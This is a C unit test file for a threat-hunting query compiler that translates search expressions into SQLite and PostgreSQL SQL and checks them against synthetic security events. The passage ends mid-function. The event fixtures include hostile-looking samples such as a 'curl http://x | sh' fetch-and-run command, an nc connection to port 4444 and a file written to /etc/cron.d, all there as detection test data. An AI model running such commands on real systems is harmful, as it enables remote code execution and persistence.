/* Hunting search: SQL text and parameters for both dialects, real execution of the SQLite output
 * against an in-memory events table, and error messages with their positions. */
#include <errno.h>
#include <setjmp.h>
#include <stdbool.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <sqlite3.h>

#include "event_bloom.h"
#include "event_json.h"
#include "query.h"

static const struct query_column cols[] = {
    {"@timestamp", "ts", QUERY_TIME},
    {"host.name", "host", QUERY_TEXT},
    {"agent.id", "agent_id", QUERY_TEXT},
    {"event.action", "action", QUERY_TEXT},
    {"event.category", "category", QUERY_TEXT},
    {"process.entity_id", "entity_id", QUERY_TEXT},
    {"process.parent.entity_id", "parent_entity_id", QUERY_TEXT},
    {"process.pid", "pid", QUERY_INT},
    {"process.name", "name", QUERY_TEXT},
    {"process.executable", "exe", QUERY_TEXT},
    {"process.hash.sha256", "hash", QUERY_TEXT},
    {"file.path", "path", QUERY_TEXT},
    {"source.ip", "src_ip", QUERY_TEXT},
    {"destination.ip", "dst_ip", QUERY_TEXT},
    {"destination.port", "dst_port", QUERY_INT},
    {"user.name", "user_name", QUERY_TEXT},
    {"dns.question.name", "dns", QUERY_TEXT},
};
#define NCOLS (sizeof(cols) / sizeof(cols[0]))

/* The indexed columns are filled from the document, as the store does on insert. */
static const char *const events[] = {
    "{\"@timestamp\":\"2026-11-22T09:00:00Z\",\"agent\":{\"id\":\"a1\"},\"host\":{\"name\":\"web-"
    "1\"},"
    "\"event\":{\"action\":\"exec\",\"category\":[\"process\"]},\"process\":{\"entity_id\":\"e1\","
    "\"pid\":1200,\"name\":\"bash\",\"executable\":\"/usr/bin/bash\",\"args\":[\"bash\",\"-c\","
    "\"curl http://x | sh\"],\"hash\":{\"sha256\":\"aa11\"},\"parent\":{\"entity_id\":\"p1\","
    "\"pid\":1100,\"name\":\"sshd\"}},\"user\":{\"name\":\"root\",\"id\":\"0\",\"effective\":"
    "{\"id\":\"0\"}},\"tags\":[\"prod\",\"linux\"]}",

    "{\"@timestamp\":\"2026-11-22T09:10:00Z\",\"agent\":{\"id\":\"a1\"},\"host\":{\"name\":\"web-"
    "1\"},"
    "\"event\":{\"action\":\"exec\",\"category\":[\"process\"]},\"process\":{\"entity_id\":\"e2\","
    "\"pid\":1300,\"name\":\"Bash\",\"executable\":\"/usr/local/bin/Bash\",\"args\":[\"Bash\"],"
    "\"parent\":{\"entity_id\":\"e1\",\"pid\":1200,\"name\":\"bash\"}},\"user\":{\"name\":"
    "\"alice\","
    "\"effective\":{\"id\":\"1000\"}},\"tags\":[\"prod\"]}",

    "{\"@timestamp\":\"2026-11-22T09:20:00Z\",\"agent\":{\"id\":\"a2\"},\"host\":{\"name\":\"web-"
    "2\"},"
    "\"event\":{\"action\":\"exec\",\"category\":[\"process\"]},\"process\":{\"entity_id\":\"e3\","
    "\"pid\":900,\"name\":\"backup-agent\",\"executable\":\"/opt/backup/backup-agent\",\"args\":"
    "[\"backup-agent\",\"--daily\"],\"parent\":{\"pid\":1,\"name\":\"systemd\"}},\"user\":"
    "{\"name\":\"root\"},\"tags\":[\"linux\"]}",

    "{\"@timestamp\":\"2026-11-22T09:30:00Z\",\"agent\":{\"id\":\"a3\"},\"host\":{\"name\":\"db-"
    "1\"},"
    "\"event\":{\"action\":\"file-create\",\"category\":[\"file\"]},\"process\":{\"pid\":2000,"
    "\"name\":\"python3\",\"executable\":\"/usr/bin/python3\",\"args\":[\"python3\",\"/tmp/"
    "x.py\"]},"
    "\"file\":{\"path\":\"/etc/cron.d/evil\"},\"user\":{\"name\":\"root\"},\"tags\":[]}",

    "{\"@timestamp\":\"2026-11-22T09:40:00Z\",\"agent\":{\"id\":\"a3\"},\"host\":{\"name\":\"db-"
    "1\"},"
    "\"event\":{\"action\":\"file-modify\",\"category\":[\"file\"]},\"process\":{\"pid\":2100,"
    "\"name\":\"vim\"},\"file\":{\"path\":\"/etc/crontab\"},\"user\":{\"name\":\"alice\"}}",

    "{\"@timestamp\":\"2026-11-22T10:00:00Z\",\"agent\":{\"id\":\"a1\"},\"host\":{\"name\":\"web-"
    "1\"},"
    "\"event\":{\"action\":\"network-connect\",\"category\":[\"network\"]},\"process\":{\"pid\":"
    "3000,"
    "\"name\":\"curl\"},\"source\":{\"ip\":\"10.0.0.5\"},\"destination\":{\"ip\":\"203.0.113.5\","
    "\"port\":443},\"user\":{\"name\":\"alice\"}}",

    "{\"@timestamp\":\"2026-11-22T10:10:00Z\",\"agent\":{\"id\":\"a1\"},\"host\":{\"name\":\"web-"
    "1\"},"
    "\"event\":{\"action\":\"network-connect\",\"category\":[\"network\"]},\"process\":{\"pid\":"
    "3100,"
    "\"name\":\"nc\"},\"destination\":{\"ip\":\"198.51.100.7\",\"port\":4444},\"user\":{\"name\":"
    "\"root\"},\"tags\":[\"prod\",\"suspicious\"]}",

    "{\"@timestamp\":\"2026-11-22T10:20:00Z\",\"agent\":{\"id\":\"a2\"},\"host\":{\"name\":\"web-"
    "2\"},"
    "\"event\":{\"action\":\"dns-query\",\"category\":[\"network\"]},\"process\":{\"pid\":400,"
    "\"name\":\"systemd-resolved\"},\"dns\":{\"question\":{\"name\":\"evil.example.com\"}}}",

    "{\"@timestamp\":\"2026-11-22T10:30:00Z\",\"agent\":{\"id\":\"a2\"},\"host\":{\"name\":\"web-"
    "2\"},"
    "\"event\":{\"action\":\"exec\",\"category\":[\"process\"]},\"process\":{\"pid\":5000,"
    "\"name\":\"my tool\",\"executable\":\"/opt/my tool/bin/run\",\"args\":[\"run\",\"--flag\","
    "\"a \\\"quoted\\\" arg\"]},\"user\":{\"name\":\"bob\"},\"tags\":[\"dev\"]}",

    "{\"@timestamp\":\"2026-11-22T10:40:00Z\",\"agent\":{\"id\":\"a1\"},\"host\":{\"name\":\"web-"
    "1\"},"
    "\"event\":{\"action\":\"login\",\"category\":[\"authentication\"]},\"user\":{\"name\":"
    "\"carol\"},\"tags\":[\"linux\"]}",

    "{\"@timestamp\":\"2026-11-22T11:00:00Z\",\"agent\":{\"id\":\"a3\"},\"host\":{\"name\":\"db-"
    "1\"},"
    "\"event\":{\"action\":\"file-create\",\"category\":[\"file\"]},\"process\":{\"pid\":6000,"
    "\"name\":\"touch\",\"parent\":{\"pid\":2000,\"name\":\"python3\"}},\"file\":{\"path\":"
    "\"/tmp/we[ir]d*?.txt\"},\"user\":{\"name\":\"root\"}}",
};
#define NEVENTS (sizeof(events) / sizeof(events[0]))

static sqlite3 *db;

static void fn_bloom(sqlite3_context *ctx, int argc, sqlite3_value **argv)
{
	const void *f = sqlite3_value_blob(argv[0]);

	(void)argc;
	sqlite3_result_int(ctx, event_bloom_may_contain(f, (size_t)sqlite3_value_bytes(argv[0]),
							(uint64_t)sqlite3_value_int64(argv[1])));
}

/* One block per event, as the store keeps one per batch: event_blocks(id = the event's id, bloom
 * over the event's filtered columns), and mamori_bloom() as the store registers it. */
static void setup_blocks(void)
{
	static const char *const text_cols[] = {"entity_id", "parent_entity_id", "hash", "path",
						"src_ip", "dst_ip", "exe", "name", "user_name",
						"dns", "host", "action"};
	sqlite3_stmt *sel, *ins;
	struct event_bloom b;
	struct dynbuf f;

	assert_int_equal(sqlite3_create_function(db, "mamori_bloom", 2, SQLITE_UTF8, NULL, fn_bloom,
						 NULL, NULL),
			 SQLITE_OK);
	assert_int_equal(sqlite3_exec(db, "CREATE TABLE event_blocks (id INTEGER PRIMARY KEY,"
					  " bloom BLOB NOT NULL)",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	assert_int_equal(sqlite3_prepare_v2(db,
					    "SELECT id, entity_id, parent_entity_id, hash, path,"
					    " src_ip, dst_ip, exe, name, user_name, dns, host,"
					    " action FROM events",
					    -1, &sel, NULL),
			 SQLITE_OK);
	assert_int_equal(sqlite3_prepare_v2(db, "INSERT INTO event_blocks VALUES (?, ?)", -1, &ins,
					    NULL),
			 SQLITE_OK);
	event_bloom_init(&b);
	dynbuf_init(&f, 1 << 20);
	while (sqlite3_step(sel) == SQLITE_ROW) {
		event_bloom_reset(&b);
		dynbuf_reset(&f);
		for (int c = 1; c <= 12; c++) {
			const char *v = (const char *)sqlite3_column_text(sel, c);

			if (v && event_bloom_column(text_cols[c - 1]))
				assert_int_equal(event_bloom_add(&b, event_bloom_key(text_cols[c - 1], v,
										     strlen(v))),
						 0);
		}
		assert_int_equal(event_bloom_write(&b, &f), 0);
		sqlite3_bind_int64(ins, 1, sqlite3_column_int64(sel, 0));
		sqlite3_bind_blob(ins, 2, f.data, (int)f.len, SQLITE_STATIC);
		assert_int_equal(sqlite3_step(ins), SQLITE_DONE);
		sqlite3_reset(ins);
	}
	sqlite3_finalize(sel);
	sqlite3_finalize(ins);
	event_bloom_release(&b);
	dynbuf_release(&f);
}

static int setup_db(void **state)
{
	static const char schema[] =
	    "CREATE TABLE events (id INTEGER PRIMARY KEY, ts INTEGER NOT NULL, agent_id TEXT,"
	    " host TEXT, action TEXT, category TEXT, entity_id TEXT, parent_entity_id TEXT,"
	    " pid INTEGER, name TEXT, exe TEXT, hash TEXT, path TEXT, src_ip TEXT, dst_ip TEXT,"
	    " dst_port INTEGER, user_name TEXT, dns TEXT, doc TEXT NOT NULL)";
	static const char fill[] =
	    "UPDATE events SET agent_id = doc->>'$.agent.id', host = doc->>'$.host.name',"
	    " action = doc->>'$.event.action', category = doc->>'$.event.category[0]',"
	    " entity_id = doc->>'$.process.entity_id',"
	    " parent_entity_id = doc->>'$.process.parent.entity_id',"
	    " pid = doc->>'$.process.pid', name = doc->>'$.process.name',"
	    " exe = doc->>'$.process.executable', hash = doc->>'$.process.hash.sha256',"
	    " path = doc->>'$.file.path', src_ip = doc->>'$.source.ip',"
	    " dst_ip = doc->>'$.destination.ip', dst_port = doc->>'$.destination.port',"
	    " user_name = doc->>'$.user.name', dns = doc->>'$.dns.question.name'";
	sqlite3_stmt *st;

	(void)state;
	assert_int_equal(sqlite3_open(":memory:", &db), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db, schema, NULL, NULL, NULL), SQLITE_OK);
	assert_int_equal(
	    sqlite3_prepare_v2(db, "INSERT INTO events (ts, doc) VALUES (?, ?)", -1, &st, NULL),
	    SQLITE_OK);
	for (size_t i = 0; i < NEVENTS; i++) {
		uint64_t ns;

		/* "@timestamp":"..." always opens the document: 20 characters of time at offset 15.
		 */
		assert_int_equal(json_parse_time(events[i] + 15, 20, &ns), 0);
		sqlite3_bind_int64(st, 1, (sqlite3_int64)ns);
		sqlite3_bind_text(st, 2, events[i], -1, SQLITE_STATIC);
		assert_int_equal(sqlite3_step(st), SQLITE_DONE);
		sqlite3_reset(st);
	}
	sqlite3_finalize(st);
	assert_int_equal(sqlite3_exec(db, fill, NULL, NULL, NULL), SQLITE_OK);
	setup_blocks();
	return 0;
}

static int teardown_db(void **state)
{
	(void)state;
	sqlite3_close(db);
	db = NULL;
	return 0;
}

static int compile(const char *q, enum query_dialect d, struct query_sql *out)
{
	char err[160];
	size_t pos;
	int rc = query_compile(q, strlen(q), d, cols, NCOLS, out, err, sizeof(err), &pos);

	if (rc)
		print_error("query %s: %s at %zu\n", q, err, pos);
	return rc;
}

/* Runs SELECT count(*) with the compiled clause; the store binds the same way. */
static long count(const char *q)
{
	struct query_sql s;
	struct dynbuf sql;
	sqlite3_stmt *st;
	long n;

	assert_int_equal(compile(q, QUERY_SQLITE, &s), 0);
	dynbuf_init(&sql, 1 << 20);
	assert_int_equal(dynbuf_printf(&sql, "SELECT count(*) FROM events WHERE %s", s.sql.data),
			 0);
	if (sqlite3_prepare_v2(db, sql.data, -1, &st, NULL) != SQLITE_OK) {
		print_error("%s\n%s\n", sqlite3_errmsg(db), sql.data);
		fail();
	}
	assert_int_equal(sqlite3_bind_parameter_count(st), (int)s.nparams);
	for (size_t i = 0; i < s.nparams; i++) {
		const struct query_param *p = &s.params[i];

		if (p->type == QUERY_INT)
			sqlite3_bind_int64(st, (int)i + 1, p->num);
		else
			sqlite3_bind_text(st, (int)i + 1, p->text, (int)p->len, SQLITE_STATIC);
	}
	if (sqlite3_step(st) != SQLITE_ROW) {
		print_error("%s\n%s\n", sqlite3_errmsg(db), sql.data);
		fail();
	}
	n = (long)sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	dynbuf_release(&sql);
	query_sql_release(&s);
	return n;
}

#define assert_count(q, n)                                                                         \
	do {                                                                                       \
		long got_ = count(q);                                                              \
		if (got_ != (n)) {                                                                 \
			print_error("query %s: %ld rows, expected %d\n", q, got_, (n));            \
			fail();                                                                    \
		}                                                                                  \
	} while (0)

/* Checks the SQL text and the text of each parameter ("#123" for an integer). */
static void check_sql(const char *q, enum query_dialect d, const char *want, ...)
{
	struct query_sql s;
	va_list ap;
	size_t i = 0;
	const char *p;

	assert_int_equal(compile(q, d, &s), 0);
	assert_string_equal(s.sql.data, want);
	va_start(ap, want);
	while ((p = va_arg(ap, const char *)) != NULL) {
		assert_true(i < s.nparams);
		if (p[0] == '#') {
			assert_int_equal(s.params[i].type, QUERY_INT);
			assert_int_equal(s.params[i].num, strtoll(p + 1, NULL, 10));
		} else {
			assert_int_equal(s.params[i].type, QUERY_TEXT);
			assert_int_equal(s.params[i].len, strlen(p));
			assert_string_equal(s.params[i].text, p);
		}
		i++;
	}
	va_end(ap);
	assert_int_equal(s.nparams, i);
	query_sql_release(&s);
}

static void check_err_n(const char *q, size_t len, int rc, size_t pos, const char *msg)
{
	struct query_sql s;
	char err[160];
	size_t at = 9999;

	assert_int_equal(
	    query_compile(q, len, QUERY_SQLITE, cols, NCOLS, &s, err, sizeof(err), &at), rc);
	if (!strstr(err, msg) || at != pos) {
		print_error("query %.60s: got \"%s\" at %zu, expected \"%s\" at %zu\n", q, err, at,
			    msg, pos);
		fail();
	}
	assert_null(s.sql.data);
	assert_int_equal(s.nparams, 0);
	query_sql_release(&s);
	/* PostgreSQL reports the same error at the same place. */
	at = 9999;
	assert_int_equal(query_compile(q, len, QUERY_PG, cols, NCOLS, &s, err, sizeof(err), &at),
			 rc);
	assert_int_equal(at, pos);
	query_sql_release(&s);
}

static void check_err(const char *q, int rc, size_t pos, const char *msg)
{
	check_err_n(q, strlen(q), rc, pos, msg);
}

/* ---- SQL text ---- */

static void test_sql_sqlite(void **state)
{
	(void)state;
	check_sql("process.name:bash", QUERY_SQLITE, "(name = ?)", "bash", NULL);
	check_sql("process.name:ba*", QUERY_SQLITE, "(name GLOB ?)", "ba*", NULL);
	check_sql("file.path:*/x[1]?/*", QUERY_SQLITE, "(path GLOB ?)", "*/x[[]1][?]/*", NULL);
	check_sql("file.path:\"a*b\"", QUERY_SQLITE, "(path = ?)", "a*b", NULL);
	check_sql("file.path:a\\*b*", QUERY_SQLITE, "(path GLOB ?)", "a[*]b*", NULL);
	check_sql("process.name:*", QUERY_SQLITE, "(name IS NOT NULL)", NULL);
	check_sql("process.pid >= 1000", QUERY_SQLITE, "(pid >= ?)", "#1000", NULL);
	check_sql("process.pid:-5", QUERY_SQLITE, "(pid = ?)", "#-5", NULL);
	check_sql("@timestamp<\"2026-11-22T10:00:00.5Z\"", QUERY_SQLITE, "(ts < ?)",
		  "#1795341600500000000", NULL);
	check_sql("@timestamp > 2026-11-22", QUERY_SQLITE, "(ts > ?)", "#1795305600000000000",
		  NULL);
	check_sql("host.name > m", QUERY_SQLITE, "(host > ?)", "m", NULL);
	check_sql(
	    "not a:b and (c:d or e:f)", QUERY_SQLITE,
	    "((EXISTS (SELECT 1 FROM json_each(doc, ?) WHERE typeof(key) <> 'text' AND type NOT "
	    "IN ('object', 'array') AND (CASE type WHEN 'true' THEN 'true' WHEN 'false' THEN "
	    "'false' ELSE CAST(value AS TEXT) END) = ?)) IS NOT TRUE AND (EXISTS (SELECT 1 FROM "
	    "json_each(doc, ?) WHERE typeof(key) <> 'text' AND type NOT IN ('object', 'array') "
	    "AND (CASE type WHEN 'true' THEN 'true' WHEN 'false' THEN 'false' ELSE CAST(value AS "
	    "TEXT) END) = ?) OR EXISTS (SELECT 1 FROM json_each(doc, ?) WHERE typeof(key) <> "
	    "'text' AND type NOT IN ('object', 'array') AND (CASE type WHEN 'true' THEN 'true' "
	    "WHEN 'false' THEN 'false' ELSE CAST(value AS TEXT) END) = ?)))",
	    "$.\"a\"", "b", "$.\"c\"", "d", "$.\"e\"", "f", NULL);
	check_sql("user.effective.id:*", QUERY_SQLITE,
		  "(coalesce(json_type(doc, ?), 'null') <> 'null')",
		  "$.\"user\".\"effective\".\"id\"", NULL);
	check_sql(
	    "process.parent.pid > 10", QUERY_SQLITE,
	    "(EXISTS (SELECT 1 FROM json_each(doc, ?) WHERE typeof(key) <> 'text' AND type NOT "
	    "IN ('object', 'array') AND type IN ('integer', 'real') AND value > ?))",
	    "$.\"process\".\"parent\".\"pid\"", "#10", NULL);
	check_sql(
	    "x.@y-z < \"10\"", QUERY_SQLITE,
	    "(EXISTS (SELECT 1 FROM json_each(doc, ?) WHERE typeof(key) <> 'text' AND type NOT "
	    "IN ('object', 'array') AND type = 'text' AND value < ?))",
	    "$.\"x\".\"@y-z\"", "10", NULL);
	check_sql("process.name:(bash OR sh)", QUERY_SQLITE, "((name = ? OR name = ?))", "bash",
		  "sh", NULL);
	check_sql("evil", QUERY_SQLITE, "(doc GLOB ?)", "*evil*", NULL);
	check_sql("\"say \\\"hi\\\" [now]*\"", QUERY_SQLITE, "(doc GLOB ?)",
		  "*say \\\"hi\\\" [[]now][*]*", NULL);
	check_sql("", QUERY_SQLITE, "(1 = 1)", NULL);
	check_sql("  \t ", QUERY_SQLITE, "(1 = 1)", NULL);
	/* Values may contain ':' and '<' once a field has been named. */
	check_sql(
	    "destination.ip:fe80::1 or url:http://x/<a>", QUERY_SQLITE,
	    "(dst_ip = ? OR EXISTS (SELECT 1 FROM json_each(doc, ?) WHERE typeof(key) <> 'text' "
	    "AND type NOT IN ('object', 'array') AND (CASE type WHEN 'true' THEN 'true' WHEN "
	    "'false' THEN 'false' ELSE CAST(value AS TEXT) END) = ?))",
	    "fe80::1", "$.\"url\"", "http://x/<a>", NULL);
}

static void test_sql_pg(void **state)
{
	(void)state;
	check_sql("process.name:bash", QUERY_PG, "(name = $1::text)", "bash", NULL);
	check_sql("process.name:b_a%!*", QUERY_PG, "(name LIKE $1::text ESCAPE '!')", "b!_a!%!!%",
		  NULL);
	check_sql("process.name:\"*\"", QUERY_PG, "(name = $1::text)", "*", NULL);
	check_sql("process.pid < 5 and host.name > a", QUERY_PG,
		  "(pid < $1::bigint AND host COLLATE \"C\" > $2::text)", "#5", "a", NULL);
	check_sql("not process.pid:*", QUERY_PG, "((pid IS NOT NULL) IS NOT TRUE)", NULL);
	check_sql("process.args:-c*", QUERY_PG,
		  "(EXISTS (SELECT 1 FROM (SELECT doc #> $1::text[] AS j) AS f, "
		  "jsonb_array_elements(CASE jsonb_typeof(f.j) WHEN 'array' THEN f.j ELSE "
		  "jsonb_build_array(f.j) END) AS e(v) WHERE jsonb_typeof(e.v) NOT IN ('object', "
		  "'array', 'null') AND (e.v #>> '{}') LIKE $2::text ESCAPE '!'))",
		  "{\"process\",\"args\"}", "-c%", NULL);
	check_sql(
	    "process.parent.pid >= 7", QUERY_PG,
	    "(EXISTS (SELECT 1 FROM (SELECT doc #> $1::text[] AS j) AS f, "
	    "jsonb_array_elements(CASE jsonb_typeof(f.j) WHEN 'array' THEN f.j ELSE "
	    "jsonb_build_array(f.j) END) AS e(v) WHERE jsonb_typeof(e.v) NOT IN ('object', "
	    "'array', 'null') AND jsonb_typeof(e.v) = 'number' AND e.v >= to_jsonb($2::bigint)))",
	    "{\"process\",\"parent\",\"pid\"}", "#7", NULL);
	check_sql("a.null:\"x\" or tags:*", QUERY_PG,
		  "(EXISTS (SELECT 1 FROM (SELECT doc #> $1::text[] AS j) AS f, "
		  "jsonb_array_elements(CASE jsonb_typeof(f.j) WHEN 'array' THEN f.j ELSE "
		  "jsonb_build_array(f.j) END) AS e(v) WHERE jsonb_typeof(e.v) NOT IN ('object', "
		  "'array', 'null') AND (e.v #>> '{}') = $2::text) OR coalesce(jsonb_typeof(doc #> "
		  "$3::text[]), 'null') <> 'null')",
		  "{\"a\",\"null\"}", "x", "{\"tags\"}", NULL);
	check_sql(
	    "x.y < \"b\"", QUERY_PG,
	    "(EXISTS (SELECT 1 FROM (SELECT doc #> $1::text[] AS j) AS f, "
	    "jsonb_array_elements(CASE jsonb_typeof(f.j) WHEN 'array' THEN f.j ELSE "
	    "jsonb_build_array(f.j) END) AS e(v) WHERE jsonb_typeof(e.v) NOT IN ('object', "
	    "'array', 'null') AND jsonb_typeof(e.v) = 'string' AND (e.v #>> '{}') COLLATE \"C\" "
	    "< $2::text))",
	    "{\"x\",\"y\"}", "b", NULL);
	check_sql("c:\\wi_n", QUERY_PG,
		  "(EXISTS (SELECT 1 FROM (SELECT doc #> $1::text[] AS j) AS f, "
		  "jsonb_array_elements(CASE jsonb_typeof(f.j) WHEN 'array' THEN f.j ELSE "
		  "jsonb_build_array(f.j) END) AS e(v) WHERE jsonb_typeof(e.v) NOT IN ('object', "
		  "'array', 'null') AND (e.v #>> '{}') = $2::text))",
		  "{\"c\"}", "wi_n", NULL);
}

static void test_sql_pg_bare(void **state)
{
	(void)state;
	check_sql("\"C:\\\\tmp\\\\a_b\" and x*", QUERY_PG,
		  "(doc::text LIKE $1::text ESCAPE '!' AND doc::text LIKE $2::text ESCAPE '!')",
		  "%C:\\\\tmp\\\\a!_b%", "%x%%", NULL);
	check_sql("@timestamp:1000 or @timestamp:(2026-01-01 or \"2026-01-01T00:00:01Z\")",
		  QUERY_PG, "(ts = $1::bigint OR (ts = $2::bigint OR ts = $3::bigint))", "#1000",
		  "#1767225600000000000", "#1767225601000000000", NULL);
}

/* ---- execution on SQLite ---- */

static void test_exec_match(void **state)
{
	(void)state;
	assert_count("", 11);
	assert_count("process.name:bash", 1);
	assert_count("process.name:Bash", 1);
	assert_count("process.name:BASH", 0);
	assert_count("process.name:ba*", 2);
	assert_count("process.name:*sh", 2);
	assert_count("process.name:*a*", 3);
	assert_count("process.name:b*h", 1);
	assert_count("file.path:*/cron.d/*", 1);
	assert_count("file.path:/etc/cron*", 2);
	assert_count("file.path:\"/etc/cron*\"", 0);
	assert_count("file.path:\"/tmp/we[ir]d*?.txt\"", 1);
	assert_count("file.path:/tmp/we\\[ir\\]d\\*\\?.txt", 1);
	assert_count("file.path:/tmp/we[ir]d*", 1);
	assert_count("file.path:/tmp/wei*", 0);
	assert_count("file.path:/tmp/we[ir]d?*", 0); /* '?' is not a wildcard */
	assert_count("process.name:\"my tool\"", 1);
	assert_count("process.executable:\"/opt/my tool/bin/run\"", 1);
	assert_count("process.executable:/opt/my\\ tool/*", 1);
	assert_count("process.name:my", 0);
	assert_count("event.category:network", 3);
	assert_count("destination.ip:203.0.113.5", 1);
}

static void test_exec_exists_lists(void **state)
{
	(void)state;
	assert_count("process.name:*", 10);
	assert_count("not process.name:*", 1);
	assert_count("process.parent.name:*", 4);
	assert_count("file.path:*", 3);
	assert_count("tags:*", 7); /* an empty array exists too */
	assert_count("dns.question.name:**", 1);
	assert_count("process.name:(bash or nc or curl)", 3);
	assert_count("process.name:(bash or nc or nope)", 2);
	assert_count("process.pid:(1200 or 3000)", 2);
	assert_count("process.name:(ba* and not bash)", 1);
	assert_count("process.name:(ba* and (not bash))", 1);
	assert_count("tags:(prod and linux)", 1);
	assert_count("tags:(dev or suspicious)", 2);
}

static void test_exec_boolean(void **state)
{
	(void)state;
	assert_count("event.action:exec and process.name:ba*", 2);
	assert_count("event.action:exec and process.name:bash or process.name:nc", 2);
	assert_count("process.name:nc or event.action:exec and process.name:bash", 2);
	assert_count("event.action:exec and (process.name:bash or process.name:nc)", 1);
	assert_count("(event.action:exec and process.name:bash) or process.name:nc", 2);
	assert_count("not process.name:bash", 10);
	assert_count("not event.action:exec and host.name:web-1", 3);
	assert_count("not (event.action:exec or host.name:web-1)", 4);
	assert_count("not not process.name:bash", 1);
	assert_count("process.name:bash OR process.name:nc", 2);
	assert_count("NOT process.name:* AnD host.name:web-1", 1);
	assert_count("host.name:web-1 and (process.name:bash or not process.name:*)", 2);
	assert_count("not process.parent.name:sshd", 10);
	assert_count("not tags:prod", 8);
}

static void test_exec_ranges(void **state)
{
	(void)state;
	assert_count("process.pid >= 1000", 8);
	assert_count("process.pid>=1000", 8);
	assert_count("process.pid < 1000", 2);
	assert_count("process.pid > 1200 and process.pid <= 3000", 4);
	assert_count("destination.port < 1024", 1);
	assert_count("destination.port >= 1024", 1);
	assert_count("@timestamp >= \"2026-11-22T10:00:00Z\"", 6);
	assert_count("@timestamp < 2026-11-22T09:30:00Z", 3);
	assert_count("@timestamp >= \"2026-11-22T10:00:00+01:00\"", 11);
	assert_count("@timestamp > \"2026-11-22T10:59:59.999999999Z\"", 1);
	assert_count("@timestamp >= 2026-11-22", 11);
	assert_count("@timestamp >= 2026-11-23", 0);
	assert_count("@timestamp:\"2026-11-22T09:00:00Z\"", 1);
	assert_count("@timestamp >= 2026-11-22T10:00:00Z and not process.name:*", 1);
	assert_count("host.name >= web", 8);
}

static void test_exec_doc(void **state)
{
	(void)state;
	assert_count("process.parent.name:sshd", 1);
	assert_count("process.parent.name:bash", 1);
	assert_count("user.effective.id:0", 1);
	assert_count("process.parent.pid:2000", 1);
	assert_count("process.parent.pid > 1000", 3);
	assert_count("process.parent.pid < \"5\"", 0); /* quoted: compares with strings only */
	assert_count("user.effective.id >= \"1\"", 1);
	assert_count("process.args:\"-c\"", 1);
	assert_count("process.args:--*", 2);
	assert_count("process.args:\"a \\\"quoted\\\" arg\"", 1);
	assert_count("process.args:*quoted*", 1);
	assert_count("tags:prod", 3);
	assert_count("tags:linux and not tags:prod", 2);
	assert_count("destination.port:443", 1);
	assert_count("process.parent:*", 4);
	assert_count("process.parent:sshd", 0); /* an object is not a value */
	assert_count("process:*", 10);
	assert_count("no.such.field:*", 0);
	assert_count("not no.such.field:x", 11);
	assert_count("@timestamp:*", 11);
}

static void test_exec_bare(void **state)
{
	(void)state;
	assert_count("evil", 2);
	assert_count("\"curl http://x\"", 1);
	assert_count("\"\\\"quoted\\\"\"", 1);
	assert_count("suspicious", 1);
	assert_count("cron*evil", 1);
	assert_count("\"cron*evil\"", 0);
	assert_count("Bash", 1);
	assert_count("evil and not dns.question.name:*", 1);
	assert_count("\"we[ir]d*?\"", 1);
}

/* ---- errors ---- */

static void test_errors(void **state)
{
	(void)state;
	check_err("(process.name:bash", -EINVAL, 0, "unbalanced '(': missing ')'");
	check_err("a:b and (c:d or (e:f)", -EINVAL, 8, "unbalanced '('");
	check_err("process.name:bash)", -EINVAL, 17, "unbalanced ')'");
	check_err("process.name:", -EINVAL, 13, "expected a value after ':'");
	check_err("process.name: and x", -EINVAL, 14, "expected a value after ':', found 'and'");
	check_err("process.name:)", -EINVAL, 13, "expected a value after ':'");
	check_err("process.name:(", -EINVAL, 14, "expected a value after '('");
	check_err("process.name:()", -EINVAL, 14, "expected a value after '('");
	check_err("process.name:(a or)", -EINVAL, 18, "expected a value after 'or'");
	check_err("process.name:bash and", -EINVAL, 21, "expected a term after 'and'");
	check_err("process.name:bash or ", -EINVAL, 21, "expected a term after 'or'");
	check_err("not", -EINVAL, 3, "expected a term after 'not'");
	check_err("or bash", -EINVAL, 0, "expected a term, found 'or'");
	check_err("()", -EINVAL, 1, "expected a term after '('");
	check_err("a and and b", -EINVAL, 6, "expected a term after 'and'");
	check_err(":x", -EINVAL, 0, "expected a term, found ':'");
	check_err("process.na$me:bash", -EINVAL, 10, "invalid character '$' in field name");
	check_err("process..name:x", -EINVAL, 7, "empty component in field name");
	check_err(".name:x", -EINVAL, 0, "empty component in field name");
	check_err("name.:x", -EINVAL, 4, "empty component in field name");
	check_err("a\\:b:x", -EINVAL, 1, "invalid character '\\' in field name");
	check_err("process.name:\"bash", -EINVAL, 13, "unterminated quoted string");
	check_err("\"abc\\\"", -EINVAL, 0, "unterminated quoted string");
	check_err("bash\\", -EINVAL, 4, "escapes nothing");
	check_err("process.name:bash process.pid:1", -EINVAL, 18, "expected 'and' or 'or'");
	check_err("a:(b c)", -EINVAL, 5, "expected 'and' or 'or'");
	check_err("a:b :", -EINVAL, 4, "expected 'and', 'or' or the end of the query");
	check_err("a > ", -EINVAL, 4, "expected a value after '>'");
	check_err("process.pid >= (1)", -EINVAL, 15, "expected a value after '>='");
	check_err("process.pid:abc", -EINVAL, 12, "expected an integer for field 'process.pid'");
	check_err("process.pid:99999999999999999999", -EINVAL, 12, "expected an integer");
	check_err("process.pid:12*", -EINVAL, 12, "wildcards are not allowed on numeric field");
	check_err("process.pid:(1 or 2*)", -EINVAL, 18, "wildcards are not allowed");
	check_err("process.pid > 1*", -EINVAL, 14, "wildcards are not allowed in a range");
	check_err("x.y <= a*", -EINVAL, 7, "wildcards are not allowed in a range ('<=')");
	check_err("@timestamp >= \"yesterday\"", -EINVAL, 14, "expected an RFC 3339 time");
	check_err("@timestamp >= 2026-13-01", -EINVAL, 14, "expected an RFC 3339 time");
	check_err("@timestamp >= 2262-04-12", -EINVAL, 14, "time out of range");
	check_err_n("a:b\0", 4, -EINVAL, 3, "NUL byte in query");
	check_err("a:\xc3(", -EINVAL, 2, "invalid UTF-8");
	check_err("a:\xed\xa0\x80", -EINVAL, 2, "invalid UTF-8");
	check_err("a:\xc0\xaf", -EINVAL, 2, "invalid UTF-8");
}

static void test_limits(void **state)
{
	char q[QUERY_MAX_LEN + 64];
	struct query_sql s;
	size_t n = 0;

	(void)state;
	/* 32 levels nest, 33 do not; parentheses and 'not' both count. */
	for (int i = 0; i < 32; i++)
		q[n++] = '(';
